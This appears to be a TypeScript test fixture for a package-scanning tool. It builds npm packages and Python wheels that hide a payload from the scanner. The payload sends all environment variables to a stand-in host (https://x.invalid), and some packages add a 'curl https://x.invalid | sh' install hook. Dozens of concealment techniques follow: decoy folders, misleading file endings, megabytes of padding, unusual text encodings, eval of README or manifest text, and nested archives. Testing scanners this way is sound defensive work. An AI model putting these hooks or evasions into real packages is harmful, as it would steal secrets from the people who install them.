import { gzipSync } from 'node:zlib';
import { npmPackage, tarball, wheel, zip, type Files } from '@sallyport/analysis/testing';
import { tar } from './tar';

/** One inert payload, put out of sight in a way that must not help it. */
export interface Evasion {
  what: string;
  ecosystem: 'npm' | 'pypi';
  build(): Buffer | Promise<Buffer>;
  /** Nothing can be known of it, so that it is only not clean. */
  isUnknowable?: true;
}

const MIB = 1024 * 1024;
/** What an import would send away. */
export const JS = `require('https').request('https://x.invalid', { method: 'POST' }).end(JSON.stringify(process.env));\n`;
export const PY = `import os, json, urllib.request\nurllib.request.urlopen('https://x.invalid', json.dumps(dict(os.environ)).encode())\n`;
const HIDDEN_PY = `import base64\nexec(base64.b64decode('${Buffer.from('print(1)').toString('base64')}'))\n`;
const HOOK = { scripts: { postinstall: 'curl https://x.invalid | sh' } };
const utf16 = (text: string) => Buffer.concat([Buffer.from('fffe', 'hex'), Buffer.from(text, 'utf16le')]);
/** Code by its beginning, and nothing that any Python would run. */
export const pyc = (flags: number, sourceSize = 0) =>
  Buffer.from([
    0xa7,
    0x0d,
    0x0d,
    0x0a,
    flags,
    0,
    0,
    0,
    0,
    0,
    0,
    0,
    sourceSize,
    0,
    0,
    0,
    0xe3,
    ...Buffer.alloc(40, 1),
  ]);
export const js = (what: string, files: Files, manifest: Record<string, unknown> = {}): Evasion => ({
  what,
  ecosystem: 'npm',
  build: () => npmPackage(manifest, files),
});
export const py = (what: string, files: Files): Evasion => ({
  what,
  ecosystem: 'pypi',
  build: () => wheel(files),
});
export const sdist = (what: string, files: Files): Evasion => ({
  what,
  ecosystem: 'pypi',
  build: () => tarball({ 'PKG-INFO': 'Name: a\nVersion: 1\n', ...files }),
});
const unknowable = (evasion: Evasion): Evasion => ({ ...evasion, isUnknowable: true });
const decoys = (ending: string, count: number): Files =>
  Object.fromEntries(Array.from({ length: count }, (_, at) => [`a/${at}${ending}`, `// ${at}`]));
const utf7 = (text: string) =>
  text.replace(
    /[^\s\w.]/g,
    (char) => `+${Buffer.from(char, 'utf16le').swap16().toString('base64').replace(/=+$/, '')}-`,
  );

export const PLACES: readonly Evasion[] = [
  ...[
    'test',
    'tests',
    'vendor',
    'node_modules/x',
    '.hidden',
    'docs',
    'examples',
    '__tests__',
    'fixtures',
    'coverage',
  ].map((folder) => js(`in ${folder}/`, { [`${folder}/index.js`]: JS })),
  js('in dist, minified by name', { 'dist/a.min.js': JS }),
  js('left out by .npmignore', { '.npmignore': 'lib\n', 'lib/a.js': JS }),
  js('left out by .gitignore', { '.gitignore': 'a.js\n', 'a.js': JS }),
  js('named as a configuration', { '.eslintrc.js': JS }),
  js('in 20 folders', { [`${'a/'.repeat(20)}x.js`]: JS }),
  js('with capitals in its ending', { 'INDEX.JS': JS }),
  js('behind 5,000 decoys', { ...decoys('.js', 5_000), 'z.js': `${'// padding\n'.repeat(20)}${JS}` }),
  js('behind decoys that are larger', {
    ...Object.fromEntries(
      Array.from({ length: 30 }, (_, at) => [
        `${at}.js`,
        `process.env.A${at};\n${'// padding\n'.repeat(90_000)}`,
      ]),
    ),
    'index.js': JS,
  }),
  ...['tests', 'vendor', '.hidden', 'docs'].map((folder) =>
    py(`Python in ${folder}/`, { [`${folder}/a.py`]: PY }),
  ),
  py('in the folder of data of a wheel', { 'sample-1.0.0.data/purelib/a.py': PY }),
  py('in the scripts of a wheel', { 'sample-1.0.0.data/scripts/run.py': PY }),
  py('in scripts without an ending', { 'sample-1.0.0.data/scripts/run': `#!python\n${PY}` }),
  py('beside the metadata', { 'sample-1.0.0.dist-info/a.py': PY }),
  py('in a namespace package', { 'google/cloud/x/a.py': PY }),
  py('in a module without a package', { 'a.py': PY }),
  sdist('in setup.py', { 'setup.py': HIDDEN_PY }),
  unknowable(
    sdist('in Setup.py, which some file systems take for setup.py', {
      'Setup.py': HIDDEN_PY,
      'setup.py': '',
    }),
  ),
];

export const NAMES: readonly Evasion[] = [
  ...['.txt', '.dat', '.css', '.log', '.bin', '.old', ''].map((ending) =>
    js(`named "x${ending}" and loaded`, { 'index.js': `require('./x${ending}')`, [`x${ending}`]: JS }),
  ),
  js('named .txt and loaded by nobody', { 'x.txt': JS }),
  js('named .html and read as code', {
    'index.js': `require.extensions['.html'] = require.extensions['.js']; require('./x.html')`,
    'x.html': JS,
  }),
  js('named .node and read as code', {
    'index.js': `require.extensions['.node'] = require.extensions['.js']; require('./x.node')`,
    'x.node': JS,
  }),
  js('named .map and read as code', { 'index.js': `require('./x.map')`, 'x.map': JS }),
  js('without an ending, with a first line', { 'bin/x': `#!/usr/bin/env node\n${JS}` }),
  js('as main with an ending of its own', { 'lib.dat': JS }, { main: 'lib.dat' }),
  js('as TypeScript', { 'index.ts': `const a: string = 'x';\n${JS}` }),
  js('as TSX', { 'index.tsx': `const a = <p>{1}</p>;\n${JS}` }),
  js('as .cts', { 'index.cts': JS }),
  py('named .pyw', { 'a.pyw': PY }),
  py('named .PY', { 'A.PY': PY }),
  unknowable(py('compiled, beside its source', { 'a.py': 'x = 1', '__pycache__/a.cpython-311.pyc': pyc(0) })),
  py('compiled, without its source', { 'sample/a.pyc': pyc(0) }),
  py('__init__ compiled, without its source', { 'sample/__init__.pyc': pyc(0) }),
  py('compiled, and not to be compared', { 'a.py': 'x = 1', '__pycache__/a.cpython-311.pyc': pyc(1) }),
  {
    what: 'a library named .txt',
    ecosystem: 'npm',
    build: () => npmPackage({}, { 'x.txt': Buffer.from('\u007fELF id_rsa connect', 'latin1') }),
  },
];

export const FORMS: readonly Evasion[] = [
  js('behind 15 MB of comments', { 'index.js': `/*${'x'.repeat(15 * MIB)}*/${JS}` }),
  js('behind 10 MB of blanks', { 'index.js': `${' '.repeat(10 * MIB)}${JS}` }),
  js('behind 10 MB of lines', { 'index.js': `${'\n'.repeat(10 * MIB)}${JS}` }),
  js('behind a string of 10 MB', { 'index.js': `const a = '${'x'.repeat(10 * MIB)}';${JS}` }),
  unknowable(js('behind 17 MB of comments', { 'index.js': `/*${'x'.repeat(17 * MIB)}*/${JS}` })),
  py('behind 3 MB of comments in Python', { 'a.py': `${`# ${'x'.repeat(200)}\n`.repeat(16_000)}${PY}` }),
  py('behind a string of 3 MB in Python', { 'a.py': `a = '${'x'.repeat(3 * MIB)}'\n${PY}` }),
  js('with a byte order mark', { 'index.js': `\ufeff${JS}` }),
  js('in UTF-16', { 'index.js': utf16(JS) }),
  py('in UTF-16, in Python', { 'a.py': utf16(PY) }),
  py('in Latin-1 with a cookie', {
    'a.py': Buffer.from(`# -*- coding: latin-1 -*-\n# caf\u00e9\n${PY}`, 'latin1'),
  }),
  py('in UTF-7', { 'a.py': `# -*- coding: utf-7 -*-\n${utf7(PY)}` }),
  py('in escapes', {
    'a.py': `# coding: unicode_escape\n${[...PY].map((char) => `\\x${char.charCodeAt(0).toString(16).padStart(2, '0')}`).join('')}`,
  }),
  py('in EBCDIC', { 'a.py': Buffer.concat([Buffer.from('# coding: cp037\n'), Buffer.alloc(80, 0x81)]) }),
  unknowable(js('after an error that only our parser sees', { 'index.js': `let = ;\n${JS}` })),
  js('after a comment of HTML', { 'index.js': `<!-- x\n${JS}--> x\n` }),
  js('after a first line of a shell', { 'index.js': `#!/bin/false\n${JS}` }),
  js('after JSX in .js', { 'index.js': `const a = () => <p>{1}</p>;\n${JS}` }),
  js('after types of Flow', { 'index.js': `// @flow\nfunction f(a: string): number { return 1; }\n${JS}` }),
  js('with return at the top', { 'index.js': `${JS}\nreturn;\n` }),
  js('with await at the top', {
    'index.mjs': `import https from 'https'; await 1; https.request('https://x.invalid').end(JSON.stringify(process.env));`,
  }),
  js('with `with`', { 'index.js': `with ({}) { ${JS} }` }),
  js('in escapes of names', {
    'index.js': JS.replace('require', 'r\\u0065quire').replace('process', 'proc\\u0065ss'),
  }),
  js('in a template that is evaluated', { 'index.js': `eval(\`${JS}\`)` }),
  js('in text of the manifest', { 'index.js': `eval(require('./package.json').x)` }, { x: JS }),
  js('in a text that is evaluated', {
    'index.js': `eval(require('fs').readFileSync(__dirname + '/README.md', 'utf8').split('---')[1])`,
    'README.md': `---${JS}---`,
  }),
  py('in a text that Python evaluates', { 'a.py': `exec(open('LICENSE.txt').read())`, 'LICENSE.txt': PY }),
  py('after form feeds', { 'a.py': `\f\n\f${PY}` }),
  py('with statements that go on', {
    'a.py': PY.replace('urllib.request.urlopen(', 'urllib.request.\\\n  urlopen('),
  }),
  py('with tabs', { 'a.py': `if True:\n\t${PY.split('\n').join('\n\t')}\n` }),
  py('after an error that only our parser of Python sees', { 'a.py': `x = = 1\n${PY}` }),
  py('on one line, far to the right', { 'a.py': `x = 1;${' '.repeat(2000)}${PY.trim().replace('\n', ';')}` }),
];

export const CONTAINERS: readonly Evasion[] = [
  {
    what: 'in a tarball within',
    ecosystem: 'npm',
    build: async () => npmPackage({}, { 'x.tgz': await tarball({ 'a.js': JS }) }),
  },
  {
    what: 'a hook in a tarball within',
    ecosystem: 'npm',
    build: async () => npmPackage({}, { 'x.tgz': await npmPackage(HOOK) }),
  },
  {
    what: 'in a tar within',
    ecosystem: 'npm',
    build: () => npmPackage({}, { 'x.tar': tar({ name: 'a.js', content: JS }) }),
  },
  {
    what: 'in a zip within',
    ecosystem: 'npm',
    build: () => npmPackage({}, { 'x.zip': zip([{ name: 'a.js', content: JS }]) }),
  },
  {
    what: 'in a zip by another name',
    ecosystem: 'npm',
    build: () => npmPackage({}, { 'x.dat': zip([{ name: 'a.js', content: JS }]) }),
    isUnknowable: true,
  },
  {
    what: 'in a zipapp',
    ecosystem: 'pypi',
    build: () => wheel({ 'a.pyz': zip([{ name: '__main__.py', content: PY }]) }),
  },
  { what: 'in a wheel within', ecosystem: 'pypi', build: () => wheel({ 'x.whl': wheel({ 'a.py': PY }) }) },
  {
    what: 'in an archive that cannot be opened',
    ecosystem: 'npm',
    build: () => npmPackage({}, { 'x.tgz': gzipSync('no tar') }),
    isUnknowable: true,
  },
  js(
    'a hook of a bundled package',
    { 'node_modules/x/package.json': JSON.stringify({ name: 'x', version: '1.0.0', ...HOOK }) },
    { bundleDependencies: ['x'] },
  ),
  js(
    'a hook whose file has no ending',
    { setup: `#!/usr/bin/env node\n${JS}` },
    { scripts: { install: './setup' } },
  ),
  js('a hook whose file is named .txt', { 'x.txt': JS }, { scripts: { install: 'node x.txt' } }),
  js(
    'a hook behind 100 KB of nothing',
    {},
    { scripts: { install: `${': ;'.repeat(33_000)} curl https://x.invalid | sh` } },
  ),
];
